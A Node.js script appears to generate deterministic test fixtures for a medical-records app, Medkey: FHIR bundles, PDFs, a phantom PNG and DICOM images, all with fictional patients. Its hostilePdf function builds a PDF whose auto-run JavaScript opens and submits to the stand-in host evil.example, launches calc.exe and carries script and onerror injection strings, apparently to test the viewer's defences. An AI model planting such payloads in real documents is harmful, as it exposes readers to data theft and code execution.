/**
 * Makes the files of this folder: `npm run files`. Nothing is random and nothing comes from elsewhere, so that a second
 * run gives the same bytes. Nobody in them exists.
 */
import { createHash } from "node:crypto";
import { writeFileSync } from "node:fs";
import { crc32, deflateSync } from "node:zlib";

const write = (name, bytes) => writeFileSync(new URL(name, import.meta.url), bytes);

// FHIR: a lipid panel ---------------------------------------------------------------------------------------------

const COLLECTED = "2025-11-19T07:40:00+01:00";
const LAB = { reference: "urn:uuid:6a1c1f0e-5f0b-4f0e-9c83-0a4ab7a4c001", display: "Nordlab Diagnostics" };
const AMARA = { reference: "urn:uuid:6a1c1f0e-5f0b-4f0e-9c83-0a4ab7a4c002", display: "Amara Osei" };
const CATEGORY = coded("http://terminology.hl7.org/CodeSystem/observation-category", "laboratory", "Laboratory");
const DIAGNOSTIC = coded("http://terminology.hl7.org/CodeSystem/v2-0074", "LAB", "Laboratory");

function coded(system, code, display, text) {
  return { coding: [{ system, code, display }], ...(text && { text }) };
}

/** Values are text here: FHIR keeps a decimal's trailing zeros, JavaScript's numbers do not. */
const MEASURED = [
  ["14647-2", "Cholesterol [Moles/volume] in Serum or Plasma", "Cholesterol, total", "6.31", "H", { low: "3.0", high: "5.2" }],
  ["22748-8", "Cholesterol in LDL [Moles/volume] in Serum or Plasma", "LDL cholesterol", "4.05", "H", { high: "3.4" }],
  ["14646-4", "Cholesterol in HDL [Moles/volume] in Serum or Plasma", "HDL cholesterol", "1.42", "N", { low: "1.2" }],
  ["14927-8", "Triglyceride [Moles/volume] in Serum or Plasma", "Triglycerides", "1.10", "N", { high: "1.7" }],
];
const FLAGS = { H: "High", N: "Normal" };

const decimal = (text) => `decimal:${text}`;
const amount = (text) => ({
  value: decimal(text),
  unit: "mmol/L",
  system: "http://unitsofmeasure.org",
  code: "mmol/L",
});

function observation([code, display, text, value, flag, range], at) {
  const limits = Object.entries(range).map(([end, limit]) => [end, amount(limit)]);
  return {
    fullUrl: `urn:uuid:6a1c1f0e-5f0b-4f0e-9c83-0a4ab7a4c01${at}`,
    resource: {
      resourceType: "Observation",
      status: "final",
      category: [CATEGORY],
      code: coded("http://loinc.org", code, display, text),
      subject: AMARA,
      effectiveDateTime: COLLECTED,
      performer: [LAB],
      valueQuantity: amount(value),
      interpretation: [
        coded("http://terminology.hl7.org/CodeSystem/v3-ObservationInterpretation", flag, FLAGS[flag]),
      ],
      referenceRange: [Object.fromEntries(limits)],
    },
  };
}

function lipidPanel() {
  const observations = MEASURED.map(observation);
  const bundle = {
    resourceType: "Bundle",
    type: "collection",
    timestamp: COLLECTED,
    entry: [
      {
        fullUrl: "urn:uuid:6a1c1f0e-5f0b-4f0e-9c83-0a4ab7a4c003",
        resource: {
          resourceType: "DiagnosticReport",
          status: "final",
          category: [DIAGNOSTIC],
          code: coded("http://loinc.org", "24331-1", "Lipid 1996 panel - Serum or Plasma", "Lipid panel"),
          subject: AMARA,
          effectiveDateTime: COLLECTED,
          issued: COLLECTED,
          performer: [LAB],
          result: observations.map(({ fullUrl, resource }) => ({ reference: fullUrl, display: resource.code.text })),
          conclusion: "Total and LDL cholesterol above the reference range. Sample taken fasting.",
        },
      },
      {
        fullUrl: AMARA.reference,
        resource: {
          resourceType: "Patient",
          name: [{ family: "Osei", given: ["Amara"] }],
          gender: "female",
          birthDate: "1971-05-04",
        },
      },
      { fullUrl: LAB.reference, resource: { resourceType: "Organization", name: LAB.display } },
      ...observations,
    ],
  };
  return JSON.stringify(bundle, null, 2).replace(/"decimal:([0-9.]+)"/g, "$1") + "\n";
}

// FHIR: a patient summary -----------------------------------------------------------------------------------------

const LENA = { reference: "urn:uuid:0d1c1f6e-0001-4f5e-9a11-000000000001" };
const status = (system, code) => coded(`http://terminology.hl7.org/CodeSystem/${system}`, code);
const VITAL_SIGNS = coded("http://terminology.hl7.org/CodeSystem/observation-category", "vital-signs", "Vital Signs");
/** Year, weight, upper and lower blood pressure. */
const VISITS = [
  ["2019", "81.40", "154", "97"],
  ["2021", "79.85", "146", "92"],
  ["2023", "78.00", "139", "88"],
  ["2025", "77.20", "136", "86"],
];

const measure = (value, unit, code) => ({ value: decimal(value), unit, system: "http://unitsofmeasure.org", code });
const vital = (at, code, display, rest) => ({
  resourceType: "Observation",
  status: "final",
  category: [VITAL_SIGNS],
  code: coded("http://loinc.org", code, display),
  subject: LENA,
  effectiveDateTime: at,
  ...rest,
});

function visit([year, weight, upper, lower]) {
  const part = (code, display, value) => ({
    code: coded("http://loinc.org", code, display),
    valueQuantity: measure(value, "mmHg", "mm[Hg]"),
  });
  const component = [part("8480-6", "Systolic blood pressure", upper), part("8462-4", "Diastolic blood pressure", lower)];
  return [
    vital(`${year}-06-01T09:10:00+02:00`, "29463-7", "Body weight", { valueQuantity: measure(weight, "kg", "kg") }),
    vital(`${year}-06-01T09:15:00+02:00`, "85354-9", "Blood pressure panel", { component }),
  ];
}

function patientSummary() {
  const medicine = "urn:uuid:0d1c1f6e-0001-4f5e-9a11-000000000099";
  const resources = [
    {
      resourceType: "Patient",
      name: [{ use: "official", family: "Vogt", given: ["Lena", "Marie"] }],
      gender: "female",
      birthDate: "1975-03-09",
      telecom: [
        { system: "phone", value: "+49 40 5550 411", use: "home" },
        { system: "email", value: "lena.vogt@mail.example" },
      ],
      address: [{ line: ["Deichstr. 21"], postalCode: "20459", city: "Hamburg", country: "DE" }],
      contact: [
        {
          relationship: [{ text: "sister" }],
          name: { family: "Vogt", given: ["Ida"] },
          telecom: [{ system: "phone", value: "+49 40 5550 412" }],
        },
      ],
    },
    {
      resourceType: "AllergyIntolerance",
      clinicalStatus: status("allergyintolerance-clinical", "active"),
      criticality: "high",
      code: coded("http://snomed.info/sct", "91936005", "Allergy to penicillin", "Penicillin"),
      patient: LENA,
      onsetDateTime: "1998-05-11",
      reaction: [{ manifestation: [coded("http://snomed.info/sct", "39579001", "Anaphylaxis")] }],
    },
    {
      resourceType: "Condition",
      clinicalStatus: status("condition-clinical", "active"),
      code: coded("http://hl7.org/fhir/sid/icd-10", "I10", "Essential (primary) hypertension", "Hypertension"),
      subject: LENA,
      onsetDateTime: "2019",
    },
    {
      resourceType: "Condition",
      clinicalStatus: status("condition-clinical", "resolved"),
      code: coded("http://snomed.info/sct", "233604007", "Pneumonia"),
      subject: LENA,
      onsetDateTime: "2011-01-20",
    },
    {
      resourceType: "MedicationStatement",
      status: "active",
      medicationReference: { reference: medicine },
      subject: LENA,
      effectiveDateTime: "2019-06-01",
      dosage: [{ text: "one tablet in the morning" }],
    },
    {
      resourceType: "MedicationStatement",
      status: "completed",
      medicationCodeableConcept: { text: "Amoxicillin <b>500 mg</b>" },
      subject: LENA,
      effectiveDateTime: "2011-01-20",
    },
    {
      resourceType: "Observation",
      status: "final",
      category: [CATEGORY],
      code: coded("http://loinc.org", "882-1", "ABO and Rh group [Type] in Blood"),
      subject: LENA,
      valueCodeableConcept: { text: "0+" },
    },
    ...VISITS.flatMap(visit),
  ];
  const entry = resources.map((resource, at) => ({
    fullUrl: `urn:uuid:0d1c1f6e-0001-4f5e-9a11-${String(at + 1).padStart(12, "0")}`,
    resource,
  }));
  const ramipril = coded("http://www.whocc.no/atc", "C09AA05", "ramipril", "Ramipril 5 mg");
  entry.push({ fullUrl: medicine, resource: { resourceType: "Medication", code: ramipril } });
  const composition = {
    resourceType: "Composition",
    status: "final",
    type: coded("http://loinc.org", "60591-5", "Patient summary Document"),
    subject: LENA,
    date: "2026-10-02",
    author: [{ display: "Elbe Clinic" }],
    title: "Patient summary",
  };
  const bundle = { resourceType: "Bundle", type: "document", timestamp: "2026-10-02T09:30:00Z", entry: [{ resource: composition }, ...entry] };
  return JSON.stringify(bundle, null, 2).replace(/"decimal:([0-9.]+)"/g, "$1") + "\n";
}

// PDF: a blood count ----------------------------------------------------------------------------------------------

const BLOOD_COUNT = [
  ["Haemoglobin", "8.4", "mmol/L", "7.4 - 9.9"],
  ["Haematocrit", "0.41", "L/L", "0.36 - 0.46"],
  ["Erythrocytes", "4.6", "10^12/L", "3.9 - 5.2"],
  ["Leukocytes", "6.2", "10^9/L", "4.0 - 10.0"],
  ["Thrombocytes", "251", "10^9/L", "150 - 400"],
  ["Ferritin", "18", "ug/L", "15 - 150"],
];

function bloodCount() {
  const put = (font, size, x, y, text) =>
    `BT /${font} ${size} Tf ${x} ${y} Td (${text.replace(/[\\()]/g, "\\$&")}) Tj ET`;
  const columns = [56, 250, 330, 430];
  const drawn = [
    put("Bold", 20, 56, 770, "Nordlab Diagnostics"),
    put("Plain", 10, 56, 752, "Hafenstrasse 12, 20457 Hamburg - licence HH-LAB-0417"),
    put("Bold", 14, 56, 706, "Full blood count"),
    put("Plain", 11, 56, 686, "Amara Osei, born 4 May 1971 - collected 20 November 2025, 08:05"),
    ...["Test", "Result", "Unit", "Reference"].map((word, at) => put("Bold", 11, columns[at], 648, word)),
    "0.5 w 56 640 m 540 640 l S",
    ...BLOOD_COUNT.flatMap((row, line) => row.map((text, at) => put("Plain", 11, columns[at], 620 - 22 * line, text))),
    put("Plain", 11, 56, 456, "All values within the reference range."),
    put("Plain", 9, 56, 60, "A made-up report for trying out Medkey. Nobody in it exists."),
  ].join("\n");
  const objects = [
    "<< /Type /Catalog /Pages 2 0 R >>",
    "<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
    "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R " +
      "/Resources << /Font << /Plain 5 0 R /Bold 6 0 R >> >> >>",
    `<< /Length ${drawn.length} >>\nstream\n${drawn}\nendstream`,
    "<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica /Encoding /WinAnsiEncoding >>",
    "<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica-Bold /Encoding /WinAnsiEncoding >>",
    "<< /Title (Full blood count) /Author (Nordlab Diagnostics) /CreationDate (D:20251120103000+01'00') >>",
  ];
  return pdf(objects, `/Info 7 0 R`);
}

/** A file of these objects, the first of which is the catalogue. */
function pdf(objects, more) {
  let text = "%PDF-1.4\n%\xe2\xe3\xcf\xd3\n";
  const starts = objects.map((object, at) => {
    const start = text.length;
    text += `${at + 1} 0 obj\n${object}\nendobj\n`;
    return start;
  });
  const table = text.length;
  const entries = starts.map((start) => `${String(start).padStart(10, "0")} 00000 n \n`).join("");
  text += `xref\n0 ${objects.length + 1}\n0000000000 65535 f \n${entries}`;
  text += `trailer\n<< /Size ${objects.length + 1} /Root 1 0 R ${more} >>\nstartxref\n${table}\n%%EOF\n`;
  return Buffer.from(text, "latin1");
}

const stream = (text) => `<< /Length ${text.length} >>\nstream\n${text}\nendstream`;
const HELVETICA = "<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica /Encoding /WinAnsiEncoding >>";

// PDF: a letter of twelve pages -------------------------------------------------------------------------------------

function letter() {
  const PAGES = 12;
  const kids = Array.from({ length: PAGES }, (_, at) => `${4 + 2 * at} 0 R`).join(" ");
  const pages = Array.from({ length: PAGES }, (_, at) => [
    "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Resources << /Font << /Plain 3 0 R >> >> " +
      `/Contents ${5 + 2 * at} 0 R >>`,
    stream(
      `BT /Plain 20 Tf 56 760 Td (Discharge letter, part ${at + 1}) Tj ET\n` +
        "BT /Plain 12 Tf 56 730 Td (Amara Osei was in our care. Nobody in this letter exists.) Tj ET",
    ),
  ]);
  return pdf(
    ["<< /Type /Catalog /Pages 2 0 R >>", `<< /Type /Pages /Kids [${kids}] /Count ${PAGES} >>`, HELVETICA, ...pages.flat()],
    "",
  );
}

// PDF: everything that a hostile file tries -------------------------------------------------------------------------

function hostilePdf() {
  const js = (script) => `<< /S /JavaScript /JS (${script.replace(/[\\()]/g, "\\$&")}) >>`;
  const act = "app.alert('ran'); app.launchURL('https://evil.example/'); this.submitForm('https://evil.example/')";
  const over = "/Subtype /Link /Rect [0 0 595 842] /Border [0 0 0]";
  return pdf(
    [
      `<< /Type /Catalog /Pages 2 0 R /OpenAction ${js(act)} /AA << /WC ${js(act)} /DC ${js(act)} >> ` +
        `/Names << /JavaScript << /Names [(a) ${js(act)}] >> >> /AcroForm << /Fields [9 0 R] /NeedAppearances true >> >>`,
      "<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
      "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Resources << /Font << /Plain 5 0 R >> >> /Contents 4 0 R " +
        `/AA << /O ${js(act)} /C ${js(act)} >> /Annots [6 0 R 7 0 R 8 0 R 9 0 R] >>`,
      stream("BT /Plain 20 Tf 56 760 Td (<script>window.ran = true</script> A hostile file) Tj ET"),
      HELVETICA,
      `<< /Type /Annot ${over} /A << /S /URI /URI (https://evil.example/) >> >>`,
      `<< /Type /Annot ${over} /A << /S /Launch /F (calc.exe) >> >>`,
      `<< /Type /Annot ${over} /A ${js(act)} /AA << /E ${js(act)} >> >>`,
      "<< /Type /Annot /Subtype /Widget /FT /Tx /T (field) /V (<img src=x onerror=window.ran=1>) " +
        `/Rect [56 600 300 640] /AA << /F ${js(act)} /K ${js(act)} >> >>`,
    ],
    "",
  );
}

// PDF: locked with a password, by RC4 with 40 bits (ISO 32000-1, 7.6.3) ---------------------------------------------

const PADDING = Buffer.from("28bf4e5e4e758a4164004e56fffa01082e2e00b6d0683e802f0ca9fe6453697a", "hex");
const padded = (password) => Buffer.concat([Buffer.from(password, "latin1"), PADDING]).subarray(0, 32);
const md5 = (...parts) => createHash("md5").update(Buffer.concat(parts)).digest();

function rc4(key, data) {
  const state = Array.from({ length: 256 }, (_, at) => at);
  for (let i = 0, j = 0; i < 256; i++) {
    j = (j + state[i] + key[i % key.length]) & 255;
    [state[i], state[j]] = [state[j], state[i]];
  }
  let i = 0;
  let j = 0;
  return Buffer.from(data).map((byte) => {
    i = (i + 1) & 255;
    j = (j + state[i]) & 255;
    [state[i], state[j]] = [state[j], state[i]];
    return byte ^ state[(state[i] + state[j]) & 255];
  });
}

function lockedPdf() {
  const id = md5(Buffer.from("medkey e2e locked letter"));
  const owner = rc4(md5(padded("owner")).subarray(0, 5), padded("secret"));
  const permissions = Buffer.alloc(4);
  permissions.writeInt32LE(-4);
  const key = md5(padded("secret"), owner, permissions, id).subarray(0, 5);
  const user = rc4(key, PADDING);
  const page = "BT /Plain 20 Tf 56 760 Td (A locked letter) Tj ET";
  // Each object has a key of its own: its number and generation are hashed with the file's key.
  const sealed = rc4(md5(key, Buffer.from([4, 0, 0, 0, 0])).subarray(0, 10), Buffer.from(page));
  const hex = (bytes) => `<${bytes.toString("hex")}>`;
  return pdf(
    [
      "<< /Type /Catalog /Pages 2 0 R >>",
      "<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
      "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Resources << /Font << /Plain 5 0 R >> >> /Contents 4 0 R >>",
      stream(sealed.toString("latin1")),
      HELVETICA,
      `<< /Filter /Standard /V 1 /R 2 /O ${hex(owner)} /U ${hex(user)} /P -4 >>`,
    ],
    `/Encrypt 6 0 R /ID [${hex(id)} ${hex(id)}]`,
  );
}

// Images: the Shepp-Logan head phantom, with the contrast of Toft (1996), table B.3 --------------------------------

/** Intensity, half axes, centre, angle in degrees. */
const PHANTOM = [
  [1, 0.69, 0.92, 0, 0, 0],
  [-0.8, 0.6624, 0.874, 0, -0.0184, 0],
  [-0.2, 0.11, 0.31, 0.22, 0, -18],
  [-0.2, 0.16, 0.41, -0.22, 0, 18],
  [0.1, 0.21, 0.25, 0, 0.35, 0],
  [0.1, 0.046, 0.046, 0, 0.1, 0],
  [0.1, 0.046, 0.046, 0, -0.1, 0],
  [0.1, 0.046, 0.023, -0.08, -0.605, 0],
  [0.1, 0.023, 0.023, 0, -0.606, 0],
  [0.1, 0.023, 0.046, 0.06, -0.605, 0],
];

/** From 0 (fluid) to 1 (bone), row by row; `null` outside of the head. */
function phantom(side) {
  return Array.from({ length: side * side }, (_, at) => {
    const x = (2 * (at % side) + 1) / side - 1;
    const y = 1 - (2 * Math.floor(at / side) + 1) / side;
    const values = PHANTOM.filter(([, a, b, x0, y0, angle]) => {
      const turn = (angle * Math.PI) / 180;
      const u = (x - x0) * Math.cos(turn) + (y - y0) * Math.sin(turn);
      const v = (y - y0) * Math.cos(turn) - (x - x0) * Math.sin(turn);
      return (u / a) ** 2 + (v / b) ** 2 <= 1;
    });
    return values.length ? values.reduce((sum, [value]) => sum + value, 0) : null;
  });
}

function png() {
  const side = 384;
  const grey = phantom(side);
  const chunk = (name, body) => {
    const named = Buffer.concat([Buffer.from(name), body]);
    const framed = Buffer.alloc(named.length + 8);
    framed.writeUInt32BE(body.length);
    named.copy(framed, 4);
    framed.writeUInt32BE(crc32(named), named.length + 4);
    return framed;
  };
  const header = Buffer.from([0, 0, side >> 8, side & 255, 0, 0, side >> 8, side & 255, 8, 0, 0, 0, 0]);
  const rows = Buffer.alloc(side * (side + 1));
  for (let row = 0; row < side; row++) {
    for (let column = 0; column < side; column++) {
      rows[row * (side + 1) + 1 + column] = Math.round(255 * Math.min(1, 0.08 + 1.6 * (grey[row * side + column] ?? -0.05)));
    }
  }
  const signature = Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]);
  return Buffer.concat([
    signature,
    chunk("IHDR", header),
    chunk("IDAT", deflateSync(rows, { level: 9 })),
    chunk("IEND", Buffer.alloc(0)),
  ]);
}

// DICOM: the same phantom as one CT image, explicit VR little endian (PS3.5, PS3.10) --------------------------------

/** A UID from a name, in the arc of UUIDs (PS3.5, B.2). */
function uid(name) {
  const hash = createHash("sha256").update(name).digest("hex").slice(0, 32);
  return `2.25.${BigInt(`0x${hash}`)}`;
}

const LONG_LENGTH = new Set(["OB", "OW"]);

function element(group, number, vr, value) {
  let body = value;
  if (vr === "US") body = Buffer.from(Uint16Array.of(value).buffer);
  if (vr === "UL") body = Buffer.from(Uint32Array.of(value).buffer);
  if (typeof body === "string") body = Buffer.from(body);
  if (body.length % 2) body = Buffer.concat([body, Buffer.from(vr === "UI" || vr === "OB" ? "\0" : " ")]);
  const head = Buffer.alloc(LONG_LENGTH.has(vr) ? 12 : 8);
  head.writeUInt16LE(group, 0);
  head.writeUInt16LE(number, 2);
  head.write(vr, 4, "latin1");
  if (LONG_LENGTH.has(vr)) head.writeUInt32LE(body.length, 8);
  else head.writeUInt16LE(body.length, 6);
  return Buffer.concat([head, body]);
}

/** A file of this class and instance, in explicit VR little endian. */
function part10(storage, instance, elements) {
  const meta = Buffer.concat([
    element(0x0002, 0x0001, "OB", Buffer.from([0, 1])),
    element(0x0002, 0x0002, "UI", storage),
    element(0x0002, 0x0003, "UI", instance),
    element(0x0002, 0x0010, "UI", "1.2.840.10008.1.2.1"),
    element(0x0002, 0x0012, "UI", uid("medkey e2e")),
  ]);
  return Buffer.concat([
    Buffer.alloc(128),
    Buffer.from("DICM"),
    element(0x0002, 0x0000, "UL", meta.length),
    meta,
    ...elements.map((one) => element(...one)),
  ]);
}

function dicom() {
  const side = 128;
  const pixels = Buffer.alloc(2 * side * side);
  // Hounsfield units: air -1000, fluid 0, the brain around 40.
  phantom(side).forEach((value, at) => pixels.writeInt16LE(value === null ? -1000 : Math.round(200 * value), 2 * at));
  const ctImage = "1.2.840.10008.5.1.4.1.1.2";
  const instance = uid("medkey e2e head CT instance");
  return part10(ctImage, instance, [
    [0x0008, 0x0005, "CS", "ISO_IR 192"],
    [0x0008, 0x0008, "CS", "ORIGINAL\\PRIMARY\\AXIAL"],
    [0x0008, 0x0016, "UI", ctImage],
    [0x0008, 0x0018, "UI", instance],
    [0x0008, 0x0020, "DA", "20251118"],
    [0x0008, 0x0021, "DA", "20251118"],
    [0x0008, 0x0023, "DA", "20251118"],
    [0x0008, 0x0030, "TM", "142500"],
    [0x0008, 0x0033, "TM", "142730"],
    [0x0008, 0x0050, "SH", "A-0001"],
    [0x0008, 0x0060, "CS", "CT"],
    [0x0008, 0x0070, "LO", "Medkey phantom"],
    [0x0008, 0x0090, "PN", "Lindqvist^Paul^^Dr."],
    [0x0008, 0x1030, "LO", "CT head"],
    [0x0008, 0x103e, "LO", "Axial, phantom"],
    [0x0010, 0x0010, "PN", "Osei^Amara"],
    [0x0010, 0x0020, "LO", "P-0001"],
    [0x0010, 0x0030, "DA", "19710504"],
    [0x0010, 0x0040, "CS", "F"],
    [0x0018, 0x0050, "DS", "5"],
    [0x0018, 0x0060, "DS", "120"],
    [0x0018, 0x5100, "CS", "HFS"],
    [0x0020, 0x000d, "UI", uid("medkey e2e head CT study")],
    [0x0020, 0x000e, "UI", uid("medkey e2e head CT series")],
    [0x0020, 0x0010, "SH", "1"],
    [0x0020, 0x0011, "IS", "1"],
    [0x0020, 0x0012, "IS", "1"],
    [0x0020, 0x0013, "IS", "1"],
    [0x0020, 0x0032, "DS", "-120\\-120\\0"],
    [0x0020, 0x0037, "DS", "1\\0\\0\\0\\1\\0"],
    [0x0020, 0x0052, "UI", uid("medkey e2e head CT frame of reference")],
    [0x0020, 0x1040, "LO", ""],
    [0x0028, 0x0002, "US", 1],
    [0x0028, 0x0004, "CS", "MONOCHROME2"],
    [0x0028, 0x0010, "US", side],
    [0x0028, 0x0011, "US", side],
    [0x0028, 0x0030, "DS", "1.875\\1.875"],
    [0x0028, 0x0100, "US", 16],
    [0x0028, 0x0101, "US", 16],
    [0x0028, 0x0102, "US", 15],
    [0x0028, 0x0103, "US", 1],
    [0x0028, 0x1050, "DS", "40"],
    [0x0028, 0x1051, "DS", "80"],
    [0x0028, 0x1052, "DS", "0"],
    [0x0028, 0x1053, "DS", "1"],
    [0x0028, 0x1054, "LO", "HU"],
    [0x7fe0, 0x0010, "OW", pixels],
  ]);
}

// DICOM: eight images of the phantom in one file, each a little smaller, in bytes ----------------------------------

function series() {
  const [side, frames] = [64, 8];
  const pixels = Buffer.alloc(frames * side * side);
  const grey = phantom(side);
  for (let frame = 0; frame < frames; frame++) {
    const scale = 1 + frame / 10;
    for (let at = 0; at < side * side; at++) {
      const x = Math.floor((at % side - side / 2) * scale + side / 2);
      const y = Math.floor((Math.floor(at / side) - side / 2) * scale + side / 2);
      const inside = x >= 0 && y >= 0 && x < side && y < side;
      const value = inside ? grey[y * side + x] : null;
      pixels[frame * side * side + at] = value === null ? 0 : Math.round(20 + 220 * Math.min(1, value));
    }
  }
  const capture = "1.2.840.10008.5.1.4.1.1.7.2";
  const instance = uid("medkey e2e head series instance");
  return part10(capture, instance, [
    [0x0008, 0x0005, "CS", "ISO_IR 192"],
    [0x0008, 0x0016, "UI", capture],
    [0x0008, 0x0018, "UI", instance],
    [0x0008, 0x0020, "DA", "20251118"],
    [0x0008, 0x0060, "CS", "MR"],
    [0x0008, 0x0080, "LO", "Harbour Hospital"],
    [0x0008, 0x1030, "LO", "MR head"],
    [0x0010, 0x0010, "PN", "Osei^Amara"],
    [0x0010, 0x0030, "DA", "19710504"],
    [0x0018, 0x0015, "CS", "HEAD"],
    [0x0020, 0x000d, "UI", uid("medkey e2e head MR study")],
    [0x0020, 0x000e, "UI", uid("medkey e2e head MR series")],
    [0x0028, 0x0002, "US", 1],
    [0x0028, 0x0004, "CS", "MONOCHROME2"],
    [0x0028, 0x0008, "IS", String(frames)],
    [0x0028, 0x0010, "US", side],
    [0x0028, 0x0011, "US", side],
    [0x0028, 0x0100, "US", 8],
    [0x0028, 0x0101, "US", 8],
    [0x0028, 0x0102, "US", 7],
    [0x0028, 0x0103, "US", 0],
    [0x7fe0, 0x0010, "OB", pixels],
  ]);
}

write("lipid-panel.json", lipidPanel());
write("patient-summary.json", patientSummary());
write("blood-count.pdf", bloodCount());
write("head-scan.png", png());
write("head-ct.dcm", dicom());
write("discharge-letter.pdf", letter());
write("hostile.pdf", hostilePdf());
write("locked.pdf", lockedPdf());
write("head-series.dcm", series());
